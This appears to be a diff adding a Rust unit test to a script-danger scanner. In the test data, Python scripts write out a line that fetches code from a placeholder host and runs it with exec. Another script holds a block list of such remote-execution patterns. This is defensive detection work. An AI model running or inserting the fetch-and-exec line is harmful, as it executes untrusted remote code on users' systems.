@@ -402,4 +402,21 @@ mod tests {
         let table = format!("WORDS = [{}]\nputs WORDS.length\n", "'a', ".repeat(40_000));
         assert!(of("ruby", "a.rb", &table).is_none_or(|severity| severity < Severity::Danger));
     }
+
+    #[test]
+    fn a_program_in_a_text_that_runs_what_it_fetches_is_told() {
+        let text = "import urllib.request as u;exec(u.urlopen('https://x.invalid/a').read())";
+        for script in [
+            format!("f = open('x.py', 'w')\nf.write(\"{text}\")\n"),
+            format!("import tempfile\nt = tempfile.NamedTemporaryFile(delete=False)\nt.write(b\"\"\"{text}\"\"\")\n"),
+        ] {
+            assert_eq!(of("python3", "a.py", &script), Some(Severity::Danger), "{script}");
+        }
+        for script in [
+            "BAD = [r'exec\\(\\w+\\.urlopen', 'eval(requests.get(']\nprint(any(b in input() for b in BAD))\n",
+            "print('import requests; requests.get(\"https://x.example.com\").raise_for_status()')\n",
+        ] {
+            assert!(of("python3", "a.py", script).is_none_or(|severity| severity < Severity::Danger), "{script}");
+        }
+    }
 }
